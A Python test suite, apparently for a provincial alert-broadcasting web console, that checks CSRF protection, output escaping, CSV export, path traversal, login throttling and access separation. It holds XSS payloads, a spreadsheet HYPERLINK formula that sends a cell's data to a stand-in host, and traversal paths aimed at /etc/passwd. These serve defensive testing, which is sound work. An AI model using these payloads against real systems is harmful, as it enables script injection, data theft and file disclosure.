"""An attack list: each line is something that somebody will try on a page that the province relies on."""

import csv
import io
import re

import pytest

from broadcasts.model import Actor, Draft, Role
from store import access, web_sessions
from tests.structure.test_routes import filled
from tests.unit.test_web_carrier_orders import approved, tokens
from tests.web_stand import PASSWORD, QUICK, TEXT, Stand
from web import passwords
from web.attempts import FAILURES_PER_ADDRESS
from web.console import ROUTES as CONSOLE

HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)>"
RAW = ("<script>alert", "<img src=x", "<svg/onload")
FORMULA = '=HYPERLINK("http://x.example/"&A1;"xem")'
PLAIN = [
    route.path
    for route in CONSOLE
    if route.method == "GET" and "{" not in route.path and route.path not in ("/live", "/live/now")
]
"""Every page that needs no name in its address."""
RIGHT_TO_LEFT = "\u202egnad nab\u202c"


@pytest.fixture
async def stand(tmp_path):
    stand = Stand(tmp_path)
    await stand.open()
    yield stand
    await stand.close()


async def test_no_form_of_any_page_does_anything_without_its_token(stand):
    browser = await stand.browser("quantri")
    for route in CONSOLE:
        if route.method == "POST" and route.rule.role is not None:
            for form in ({}, {"csrf": "sai"}, {"csrf": ""}):
                answer = await browser.post(filled(route), data=form, allow_redirects=False)
                assert answer.status == 403, (route.path, form)


async def test_no_form_is_taken_from_another_site_even_with_the_token(stand):
    browser, csrf = await stand.browser("quantri"), await stand.csrf("quantri")
    for headers in ({"Sec-Fetch-Site": "cross-site"}, {"Origin": "https://evil.example"}):
        for route in CONSOLE:
            if route.method == "POST":
                answer = await browser.post(filled(route), data={"csrf": csrf}, headers=headers, allow_redirects=False)
                assert answer.status == 403, (route.path, headers)


async def test_hostile_names_and_texts_are_shown_on_every_page_and_run_on_none(stand):
    code = await stand.sent(text=f"Kiểm tra {HOSTILE} {RIGHT_TO_LEFT}", title=f"Tin {HOSTILE}"[:100])

    def plant(tx):
        tx.execute("UPDATE person SET name = ? WHERE id = 1", (HOSTILE,))
        access.add_staff(tx, HOSTILE[:60], "viewer", "x", stand.clock(), HOSTILE[:60])

    await stand.room.ledger.write(plant)
    browser = await stand.browser("quantri")
    ends = ("?all", "/rollcall", "/rollcall?show=calls", "/report", "/people")
    for path in (*PLAIN, *(f"/broadcasts/{code}{end}" for end in ends)):
        answer = await browser.get(path, allow_redirects=False)
        page = await answer.text()
        assert answer.status < 500, path
        assert not any(raw in page for raw in RAW), path
    assert "&lt;script&gt;" in await (await browser.get(f"/broadcasts/{code}?all")).text()


async def test_what_stands_in_an_address_is_never_run(stand):
    browser = await stand.browser("quantri")
    names = (
        "q",
        "state",
        "kind",
        "show",
        "before",
        "actor",
        "action",
        "text",
        "next",
        "from",
        "week",
        "template",
        "by",
    )
    query = dict.fromkeys(names, HOSTILE)
    for path in PLAIN:
        answer = await browser.get(path, params=query, allow_redirects=False)
        assert answer.status < 500, path
        page = await answer.text()
        assert not any(raw in page for raw in RAW), path


async def test_no_table_holds_a_formula(stand):
    await stand.room.ledger.write(lambda tx: tx.execute("UPDATE person SET name = ? WHERE id = 1", (FORMULA,)))
    browser = await stand.browser("quantri")
    await browser.get("/account")
    tables = [path for path in PLAIN if path.endswith(".csv")]
    assert "/audit.csv" in tables
    for path in tables:
        text = await (await browser.get(path)).text()
        cells = [cell for line in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in line]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], path


@pytest.mark.parametrize(
    "path",
    ["/static/../config.toml", "/static/..%2f..%2fconfig.toml", "/static/%2e%2e/%2e%2e/etc/passwd",
     "/static//etc/passwd",      "/static/..\\..\\config.toml", "/static/loa.css%00.txt", "/t/../../etc/passwd"],
)  # fmt: skip
async def test_no_path_leads_out_of_its_folder(stand, path):
    guest = stand.client(None)
    answer = await guest.get(path, allow_redirects=False)
    body = await answer.text()
    assert "root:" not in body
    assert "[office]" not in body
    assert answer.status in (301, 302, 303, 400, 404), answer.status


async def test_guessing_from_one_address_is_stopped_for_all_names(stand, monkeypatch):
    monkeypatch.setattr(passwords, "_hash_of_nobody", lambda: QUICK.hash("nobody's"))
    guest = stand._client()
    for n in range(FAILURES_PER_ADDRESS):
        await guest.post("/sign-in", data={"name": f"ai{n}", "password": "sai-mat-khau"})
    answer = await guest.post("/sign-in", data={"name": "canbo", "password": PASSWORD}, allow_redirects=False)
    assert answer.status == 429
    assert int(answer.headers["Retry-After"]) > 0


async def test_a_role_that_was_taken_away_holds_no_longer_on_an_open_browser(stand):
    chief = await stand.browser("lanhdao")
    await stand.room.ledger.write(lambda tx: tx.execute("UPDATE staff SET role = 'viewer' WHERE name = 'lanhdao'"))
    assert (await chief.get("/audit")).status == 403


async def test_what_is_numbered_cannot_be_walked_through_by_a_stranger(stand):
    """No page of an open route is found by counting: each is behind a random address or was published."""
    await stand.sent()
    guest = stand.client(None)
    for path in ("/alert/{}", "/carrier/{}", "/t/{}", "/set-up/{}", "/hooks/{}"):
        for n in range(1, 12):
            answer = await guest.get(path.format(n), allow_redirects=False)
            assert answer.status in (401, 404), (path, n)


async def test_a_viewer_reads_no_whole_telephone_number_anywhere(stand):
    code = await stand.sent()
    viewer = await stand.browser("khach")
    paths = [
        route.path for route in CONSOLE if route.method == "GET" and "{" not in route.path and route.path != "/live"
    ]
    paths += [
        f"/broadcasts/{code}{end}" for end in ("?all", "/rollcall", "/rollcall?show=calls", "/rollcall?show=deliveries")
    ]
    for path in paths:
        answer = await viewer.get(path, allow_redirects=False)
        if answer.status == 200:
            assert not re.search(r"\b(?:84|0)900\d{6}\b", (await answer.text()).replace(" ", "")), path


# One installation serves one office: what may not be reached across is what belongs to another person, another carrier
# or another message of it.


async def form(stand, browser, name, path, **data):
    answer = await browser.post(path, data={**data, "csrf": await stand.csrf(name)}, allow_redirects=False)
    await answer.read()
    return answer.status


async def test_an_unfinished_form_is_its_author_s_alone(stand):
    mine, other = await stand.browser("canbo"), await stand.browser("quantri")
    words = {"template": "", "text": "Bản của canbo", "reach": "all", "valid_hours": "6", "mode": "actual"}
    assert await form(stand, mine, "canbo", "/broadcasts/unsent", **words, place="new", once="mot") == 200
    for path in ("/broadcasts/new", "/broadcasts/new?continue=1", "/broadcasts/new?template=", "/"):
        assert "Bản của canbo" not in await (await other.get(path)).text(), path
    assert await form(stand, other, "quantri", "/broadcasts/unsent/drop", place="new") == 303
    assert "Bản của canbo" in await (await mine.get("/broadcasts/new?continue=1")).text()


async def test_nobody_ends_or_sees_another_person_s_session(stand):
    await stand.browser("canbo")
    other = await stand.browser("quantri")
    (handle,) = await stand.room.ledger.read(
        lambda tx: [one.handle for one in web_sessions.open_sessions(tx, staff_id(tx, "canbo"), stand.clock())]
    )
    assert handle not in await (await other.get("/account")).text()
    assert await form(stand, other, "quantri", f"/account/sessions/{handle}/end") == 404
    assert await stand.room.ledger.read(lambda tx: web_sessions.open_sessions(tx, staff_id(tx, "canbo"), stand.clock()))


def staff_id(tx, name):
    person = access.staff_named(tx, name)
    assert person is not None
    return person.id


async def test_the_alert_page_of_another_message_opens_only_when_it_was_published(stand):
    """Codes can be counted up: that one is open says nothing of its neighbours."""
    code, next_code = await stand.sent(), await stand.sent()
    officer = await stand.browser("canbo")
    assert await form(stand, officer, "canbo", f"/broadcasts/{code}/people/publish") == 303
    guest = stand.client(None)
    assert (await guest.get(f"/alert/{code}")).status == 200
    assert (await guest.get(f"/alert/{next_code}")).status == 404
    assert next_code not in await (await guest.get("/alert")).text()
    for path in (f"/broadcasts/{code}", f"/broadcasts/{code}/report", f"/broadcasts/{code}/report/export/csv"):
        answer = await guest.get(path, allow_redirects=False)
        assert answer.status == 303, path
        assert answer.headers["Location"].startswith("/sign-in")


async def test_who_sent_alone_does_not_review_it_and_who_asked_does_not_approve(stand):
    """Own work is judged by another person, whatever the role and however the form is made."""
    made = await stand.desk.draft(Draft(**TEXT), Actor("lanhdao", Role.APPROVER))
    asked = await stand.desk.submit(made.code, Actor("lanhdao", Role.APPROVER))
    chief = await stand.browser("lanhdao")
    hashed = {"content_hash": asked.content_hash, "number": str(asked.units)}
    assert await form(stand, chief, "lanhdao", f"/broadcasts/{made.code}/approve", **hashed) == 403
    assert stand.zalo.left == []


async def test_one_carrier_s_link_answers_for_no_other_and_for_no_other_order(stand):
    first, second = [(await approved(stand))["code"] for _ in range(2)]
    mine, theirs = (await tokens(stand, first))[0], await tokens(stand, second)
    guest = stand.client(None)
    page = await (await guest.get(f"/carrier/{mine}")).text()
    assert not any(one in page for one in (second, *theirs, (await tokens(stand, first))[1]))
    assert (await guest.post(f"/carrier/{mine}/acknowledge", data={"name": "A"}, allow_redirects=False)).status == 303
    for code, taken in ((first, [True, False]), (second, [False, False])):
        carriers = (await stand.orders.view(code)).carriers
        assert [one.acknowledged_at is not None for one in carriers] == taken
    for end in (f"{mine}x", mine[:-1], mine.swapcase()):
        assert (await guest.get(f"/carrier/{end}")).status == 404
